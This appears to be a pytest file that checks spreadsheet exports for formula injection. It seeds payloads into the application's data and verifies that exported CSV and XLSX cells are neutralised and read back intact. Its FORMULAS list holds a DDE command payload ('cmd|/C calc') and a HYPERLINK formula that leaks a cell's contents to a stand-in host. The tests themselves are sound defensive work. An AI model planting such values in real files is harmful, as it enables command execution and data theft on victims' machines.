"""A text of a stranger became a formula in somebody's spreadsheet: here every column of words is
filled with what Excel would run, and every file with cells is read back."""

import io
import re

import pytest

from models.adapters import spreadsheets, tables
from tests.replay.cells import cells_of
from tests.replay.hostile_words import spoil
from tests.support.undo import undone
from tests.test_audience import browser_of, expected, path_of, questions

pytestmark = pytest.mark.on_sqlite  # files are written the same there
FORMULAS = [
    "=1+1",
    '=cmd|"/C calc"!A0',
    '=HYPERLINK("http://canary.test/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\x01=1+1",
    "=1+1, =2+2",
]
RUNS = tuple("=+-@\t\r＝＋－＠")
SHEETS = ("text/csv", "application/zip", "application/vnd.openxmlformats")


def written_by(write, heads, rows):
    out = io.BytesIO()
    write(out, heads, rows, "x")
    return out.getvalue()


@pytest.fixture(scope="module")
def files(house):
    """{address: bytes} of every file with cells, as who may have it gets it."""
    with undone():
        assert spoil(texts=FORMULAS) > 150
        found, seen = {}, set()
        for who in ("ada", "fang", "zhao", "anna", "link"):
            browser = browser_of(house, who)
            for rule, view, thing, method in questions(house, who):
                cells = re.search("csv|xlsx|zip", rule.rule)
                may = expected(who, view, thing) in ((), None)
                word = rule.rule.replace("<any(csv,xlsx):form>", "{}")
                if method == "GET" and cells and may and rule.endpoint not in seen:
                    for form in ("csv", "xlsx") if "{}" in word else ("",):
                        path = path_of(rule, thing and thing.id).replace(
                            ".csv", f".{form or 'csv'}"
                        )
                        answer = browser.get(path)
                        if answer.status_code == 200 and answer.mimetype.startswith(SHEETS):
                            found[path] = answer.data
                            seen.add(rule.endpoint)
        return found


def test_kimai_2026_42267_no_formula_in_any_export(files):
    """Cells were made safe, but one formatter, of lists, came after: its `=…` ran in Excel."""
    hot, texts = [], 0
    for name, data in files.items():
        for where, value, kind in cells_of(name, data):
            texts += isinstance(value, str) and "1+1" in value
            text = isinstance(value, str) and not spreadsheets.NUMBER.fullmatch(value)
            if kind == "f" or text and value.startswith(RUNS) and value.strip("-－+") != "":
                hot.append((where, value, kind))
    assert len(files) > 30 and texts > 100 and not hot, hot[:20]


def test_kimai_2026_42267_a_sign_that_is_taken_out_lays_no_formula_bare():
    """What cleans a text comes before what makes it safe: `\\x01=1+1` is no `=1+1` in the cell."""
    for text in FORMULAS:
        book = written_by(spreadsheets.write_xlsx, ["a"], [[text]])
        cells = [(value, kind) for _name, value, kind in cells_of("x.xlsx", book)]
        assert cells[1][1] == "s" and cells[1][0].lstrip("\r\n").startswith("'"), text


def test_osticket_3767_numbers_stay_numbers_and_words_come_back_as_they_were(files):
    """A ticket's subject `=cmd|…` left with the list of tickets; making it safe must not turn a
    negative amount into a word."""
    amounts = [
        value
        for name, data in files.items()
        if name.startswith(("/documents/export", "/payments/export")) and "xlsx" in name
        for _where, value, kind in cells_of(name, data)
        if kind == "n" and value is not None
    ]
    assert len(amounts) > 10 and all(isinstance(value, int | float) for value in amounts)
    row = [["-12.50", "-1+1", "12", "-"]]
    written = written_by(spreadsheets.write_csv, ["a"] * 4, row).decode().splitlines()
    assert written[1] == "-12.50,'-1+1,12,'-"


def test_osticket_3767_what_was_made_safe_comes_back_as_it_was_written():
    """The apostrophe that an export adds is taken off where the file is read in again."""
    written = [text for text in FORMULAS if text[0] > " "]
    rows = [[text, str(n)] for n, text in enumerate(written)]
    for data, name in (
        (written_by(spreadsheets.write_csv, ["name", "code"], rows), "x.csv"),
        (written_by(spreadsheets.write_xlsx, ["name", "code"], rows), "x.xlsx"),
    ):
        assert [cells[0] for _row, cells in tables.read(data, name).rows] == written
